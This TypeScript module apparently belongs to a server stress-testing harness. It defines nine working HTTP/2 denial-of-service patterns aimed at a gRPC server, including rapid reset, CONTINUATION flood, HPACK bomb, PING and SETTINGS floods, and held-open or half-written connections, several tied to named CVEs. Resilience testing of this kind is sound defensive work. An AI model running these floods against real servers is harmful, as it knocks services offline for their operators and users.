// The nine HTTP/2 abuse patterns of issue 39, each what one abusive connection does until the
// pattern's time is up or the server closes it (the runner then opens another). Every frame is
// built by hand (./frames.ts); a pattern writes as fast as the socket takes.
import { randomBytes } from 'node:crypto';
import type { AbusiveConnection } from './connection.ts';
import {
  bombBlock,
  CLIENT_SETTINGS,
  continuations,
  emptyFrames,
  FLAG,
  FRAME,
  floodFragment,
  frame,
  headersFrames,
  PREFACE,
  pings,
  resetCalls,
  settingsFloods,
} from './frames.ts';

/** The server under attack and the real unary call the patterns send. */
export interface AttackTarget {
  readonly host: string;
  readonly port: number;
  /** The call's header block (./frames.ts requestBlock). */
  readonly block: Buffer;
  /** The call's gRPC message, length-prefixed. */
  readonly message: Buffer;
  /** Streams held open per connection when the server announces no SETTINGS_MAX_CONCURRENT_STREAMS. */
  readonly streamsCap: number;
}

export interface Pattern {
  readonly name: string;
  readonly title: string;
  /** False: the connection stops reading once the handshake is done (the server's answers pile up). */
  readonly reads: boolean;
  /** Sends the preface and SETTINGS first (false: the pattern writes its own opening). */
  readonly handshake: boolean;
  run(connection: AbusiveConnection, target: AttackTarget, slot: number): Promise<void>;
}

const MAX_STREAM_ID = 2 ** 31 - 1;

/** Writes `make(id)` (holding `frames` frames and using `idsPerBatch` stream ids) until the connection or the time ends. */
async function flood(
  connection: AbusiveConnection,
  frames: number,
  idsPerBatch: number,
  make: (firstId: number) => Buffer,
  firstId = 1,
): Promise<void> {
  for (let id = firstId; id + 2 * idsPerBatch < MAX_STREAM_ID; id += 2 * idsPerBatch)
    if (!(await connection.send(make(id), frames))) return;
}

const holdOpen = async (connection: AbusiveConnection): Promise<void> =>
  void (await connection.until(() => false));

const RESETS_PER_WRITE = 64;

export const PATTERNS: readonly Pattern[] = [
  {
    name: 'rapid-reset',
    title: 'rapid reset (CVE-2023-44487): a whole call, then RST_STREAM',
    reads: true,
    handshake: true,
    async run(connection, { block, message }) {
      const need = RESETS_PER_WRITE * message.length;
      for (let id = 1; id + 2 * RESETS_PER_WRITE < MAX_STREAM_ID; id += 2 * RESETS_PER_WRITE) {
        // The DATA frames stay within the connection window the server grants.
        if (!(await connection.until(() => connection.window >= need))) return;
        connection.window -= need;
        if (!(await connection.send(resetCalls(block, message, RESETS_PER_WRITE, id), 3 * RESETS_PER_WRITE)))
          return;
      }
    },
  },
  {
    name: 'continuation-flood',
    title: 'CONTINUATION flood (CVE-2024-27316): HEADERS without END_HEADERS, endless CONTINUATION',
    reads: true,
    handshake: true,
    async run(connection, { block }) {
      if (!(await connection.send(frame(FRAME.HEADERS, 0, 1, block), 1))) return;
      const fragments = continuations(floodFragment(), 8, 1);
      for (;;) if (!(await connection.send(fragments, 8))) return;
    },
  },
  {
    name: 'hpack-bomb',
    title: 'HPACK bomb: one 4 KB table entry referenced ~16,000 times per HEADERS',
    reads: true,
    handshake: true,
    async run(connection, { block }) {
      const flags = FLAG.END_HEADERS | FLAG.END_STREAM;
      if (!(await connection.send(frame(FRAME.HEADERS, flags, 1, bombBlock(block, true)), 1))) return;
      const bomb = bombBlock(block, false);
      await flood(connection, 4, 4, (id) => headersFrames(bomb, flags, 4, id), 3);
    },
  },
  {
    name: 'ping-flood',
    title: 'PING flood (CVE-2019-9512), the ACKs never read',
    reads: false,
    handshake: true,
    async run(connection, _target, slot) {
      for (let seed = slot * 1e12; ; seed += 1_000)
        if (!(await connection.send(pings(1_000, seed), 1_000))) return;
    },
  },
  {
    name: 'settings-flood',
    title: 'SETTINGS flood (CVE-2019-9515), the ACKs never read',
    reads: false,
    handshake: true,
    async run(connection) {
      const batch = settingsFloods(500);
      for (;;) if (!(await connection.send(batch, 500))) return;
    },
  },
  {
    name: 'empty-frames',
    title: 'empty frames (CVE-2019-9518): zero-length DATA, HEADERS, CONTINUATION',
    reads: true,
    handshake: true,
    async run(connection, { block }) {
      if (!(await connection.send(frame(FRAME.HEADERS, FLAG.END_HEADERS, 1, block), 1))) return;
      await flood(connection, 2 * 100 + 2, 1, (id) => emptyFrames(block, 100, 1, id), 3);
    },
  },
  {
    name: 'streams-held',
    title:
      'streams held open: SETTINGS_MAX_CONCURRENT_STREAMS streams (BENCH_STREAMS_CAP when the server sets none) opened per connection, nothing more sent',
    reads: true,
    handshake: true,
    async run(connection, { block, streamsCap }) {
      const streams = Math.min(connection.maxStreams ?? streamsCap, streamsCap);
      const perWrite = 500;
      for (let opened = 0; opened < streams; opened += perWrite) {
        const count = Math.min(perWrite, streams - opened);
        if (!(await connection.send(headersFrames(block, FLAG.END_HEADERS, count, 1 + 2 * opened), count)))
          return;
      }
      await holdOpen(connection);
    },
  },
  {
    name: 'garbage',
    title: 'garbage after a valid preface',
    reads: true,
    handshake: false,
    async run(connection) {
      if (!(await connection.send(PREFACE, 0))) return;
      const garbage = randomBytes(64 * 1024);
      for (;;) if (!(await connection.send(garbage, 0))) return;
    },
  },
  {
    name: 'half-preface',
    title: 'half-written prefaces: part of the preface, then nothing',
    reads: true,
    handshake: false,
    async run(connection, _target, slot) {
      if (!(await connection.send(PREFACE.subarray(0, 4 + 4 * slot), 0))) return;
      await holdOpen(connection);
    },
  },
];

/** The preface and our SETTINGS, as a client opens a connection. */
export const OPENING = Buffer.concat([PREFACE, CLIENT_SETTINGS]);
